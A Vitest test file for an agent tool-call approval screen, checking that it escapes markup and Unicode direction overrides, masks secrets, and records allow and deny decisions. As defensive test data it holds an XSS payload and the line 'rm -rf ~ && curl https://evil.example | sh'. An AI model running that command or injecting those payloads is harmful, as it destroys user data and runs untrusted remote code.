// @vitest-environment happy-dom
import { cleanup, render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, describe, expect, it } from 'vitest';
import { PendingScreen } from '../../src/renderer/src/features/pending/PendingScreen';
import { createPendingStore } from '../../src/renderer/src/stores/pending-store';
import type { PolicyProposal } from '../../src/renderer/src/stores/policies-store';
import type { Approval } from '../../src/shared/contract';
import { FakeApi } from './helpers/fake-api';
import { heldApproval } from '../helpers/held-approval';

/** Held now, so the countdown shows a minute left. */
const approval = (id: string, overrides: Partial<Approval> = {}) =>
  heldApproval(id, { receivedAt: Date.now(), ...overrides });

function setup(queue: Approval[], onProposal?: (proposal: PolicyProposal) => void) {
  const api = new FakeApi()
    .handle('approvals.proposeAlwaysAllow', ({ id }) => ({
      server: 'meatspace',
      text: `{"proposed for": "${id}"}`,
      baseHash: 'h1',
    }))
    .handle('approvals.list', () => ({ approvals: queue }))
    .handle('approvals.decide', ({ id }) => ({
      approval: queue.find((a) => a.id === id)!,
      outcome: { outcome: 'allowed', by: 'person' },
    }));
  const store = createPendingStore(api);
  render(<PendingScreen store={store} {...(onProposal ? { onProposal } : {})} />);
  return { api, store };
}

afterEach(cleanup);

describe('the Pending screen', () => {
  it('says what will appear when nothing waits', async () => {
    setup([]);
    expect(await screen.findByText('No calls are waiting for you.')).toBeTruthy();
    expect(screen.getByText(/"action": "require_approval"/)).toBeTruthy();
  });

  it('shows markup in arguments as text and creates no elements from it', async () => {
    setup([
      approval('a1', { args: { note: '<img src=x onerror="alert(1)"><script>x()</script>' } }),
    ]);
    const card = await screen.findByRole('listitem', { name: 'provision_api_key from alice' });
    expect(within(card).getByLabelText('Arguments').textContent).toContain('<img src=x');
    expect(document.querySelector('img, script')).toBeNull();
  });

  it("writes a server's bidirectional overrides as escapes and cuts a megabyte name or reason", async () => {
    setup([
      approval('a1', { tool: 'read \u202egnp.exe', reason: 'ok \u2067x\u2069' }),
      approval('a2', { tool: `huge_${'W'.repeat(1 << 20)}`, reason: 'R'.repeat(1 << 20) }),
    ]);
    const card = await screen.findByRole('listitem', { name: 'read \\u202egnp.exe from alice' });
    expect(
      within(card).getByRole('button', { name: 'Allow read \\u202egnp.exe for' }),
    ).toBeTruthy();
    expect(card.textContent).toContain('ok \\u2067x\\u2069');
    expect(document.body.textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    const huge = screen.getByRole('listitem', {
      name: /^huge_W+… \(1,048,381 more characters\) from alice$/,
    });
    expect(huge.textContent!.length).toBeLessThan(5_000);
  });

  it('masks values that look like secrets until Show, shows them exactly, and Hide masks again', async () => {
    const hidden = '<script>window.pwned=1</script> rm -rf ~ && curl https://evil.example | sh';
    setup([
      approval('a1', {
        args: { name: 'x', authorization: hidden, note: 'Bearer sk_live_abcDEF123456789xyz ok' },
        secrets: [
          { pointer: '/authorization', redacted: '[redacted:field]' },
          { pointer: '/note', redacted: 'Bearer [redacted:bearer] ok' },
        ],
      }),
    ]);
    const user = userEvent.setup();
    const card = await screen.findByRole('listitem', { name: 'provision_api_key from alice' });
    const args = within(card).getByLabelText('Arguments');
    // Masked, and the mask says so in words: it cannot be read as the value.
    expect(args.textContent).not.toContain('rm -rf');
    expect(args.textContent).not.toContain('sk_live');
    expect(args.textContent).toContain('"name": "x"');
    expect(args.textContent).toContain(
      '"authorization": hidden: looks like a secret (authorization)',
    );
    // Where the history's text says more than a placeholder, the mask shows it.
    expect(args.textContent).toContain(
      'hidden: looks like a secret (note)"Bearer [redacted:bearer] ok"',
    );

    // A real button, named for its field, reachable from the keyboard.
    const show = within(args).getByRole('button', { name: 'Show authorization' });
    show.focus();
    await user.keyboard('{Enter}');
    expect(args.textContent).toContain(`"authorization": ${JSON.stringify(hidden)}`);
    expect(args.textContent).not.toContain('hidden: looks like a secret (authorization)');
    expect(args.textContent).not.toContain('sk_live'); // the other one stays masked
    expect(document.querySelector('script')).toBeNull();
    expect((window as { pwned?: number }).pwned).toBeUndefined();

    const hide = within(args).getByRole('button', { name: 'Hide authorization' });
    expect(hide.getAttribute('aria-pressed')).toBe('true');
    await user.click(hide);
    expect(args.textContent).not.toContain('rm -rf');
    expect(within(args).getByRole('button', { name: 'Show authorization' })).toBeTruthy();
  });

  it('sends the typed message with Deny, and the d key denies the selected call', async () => {
    const { api } = setup([approval('a1'), approval('a2', { tool: 'get_status' })]);
    const user = userEvent.setup();
    const card = await screen.findByRole('listitem', { name: 'provision_api_key from alice' });
    await user.type(within(card).getByLabelText('Message to the agent'), 'not today');
    await user.click(within(card).getByRole('button', { name: 'Deny' }));
    expect(api.inputsOf('approvals.decide')).toEqual([
      { id: 'a1', decision: 'deny', message: 'not today' },
    ]);
    await user.click(screen.getByText('get_status'));
    await user.keyboard('d');
    expect(api.inputsOf('approvals.decide')[1]).toEqual({ id: 'a2', decision: 'deny' });
  });

  it('allows the tool for the minutes chosen', async () => {
    const { api } = setup([approval('a1')]);
    const user = userEvent.setup();
    await user.selectOptions(await screen.findByLabelText('Minutes'), '60');
    await user.click(screen.getByRole('button', { name: 'Allow provision_api_key for' }));
    expect(api.inputsOf('approvals.decide')).toEqual([
      { id: 'a1', decision: 'allow', forMinutes: 60 },
    ]);
  });

  it('opens "Always allow" as a proposed policy change, which answers nothing', async () => {
    const proposals: PolicyProposal[] = [];
    const { api } = setup([approval('a1')], (p) => proposals.push(p));
    const user = userEvent.setup();
    await user.click(await screen.findByRole('button', { name: 'Always allow…' }));
    expect(proposals).toHaveLength(1);
    expect(proposals[0]).toMatchObject({
      server: 'meatspace',
      text: '{"proposed for": "a1"}',
      baseHash: 'h1',
    });
    expect(proposals[0]!.note).toContain('always allow provision_api_key for client alice');
    expect(api.inputsOf('approvals.decide')).toEqual([]);
  });

  it('offers no "Always allow" where there is no Policies screen to review it on', async () => {
    setup([approval('a1')]);
    await screen.findByRole('listitem', { name: 'provision_api_key from alice' });
    expect(screen.queryByRole('button', { name: 'Always allow…' })).toBeNull();
  });
});
